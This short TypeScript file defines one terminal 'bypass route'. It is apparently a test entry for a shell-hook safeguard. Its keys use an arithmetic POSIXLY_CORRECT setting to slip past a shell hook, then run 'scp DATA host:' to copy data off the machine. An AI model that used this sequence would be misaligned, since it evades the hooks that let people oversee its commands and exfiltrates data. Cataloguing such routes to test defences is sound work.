import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'posix mode by a number',
  source: 'attempts to get round a hook of the shell',
  keys: ['((POSIXLY_CORRECT=1))\r', 'scp DATA host:\r'],
};
